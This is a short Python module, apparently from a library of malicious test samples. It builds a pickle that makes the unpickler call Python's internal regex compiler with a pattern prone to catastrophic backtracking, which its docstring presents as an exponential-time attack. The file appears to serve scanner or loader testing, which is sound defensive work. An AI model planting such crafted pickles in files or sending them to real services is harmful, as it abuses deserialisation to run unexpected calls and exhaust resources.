"""A tokeniser's pattern takes time exponential in the text: two branches match one letter,
within a repeat."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call


def build(canary: str) -> bytes:
    del canary
    return pickled_call("re", "_compile", r"(?:.|a)*b", 32)
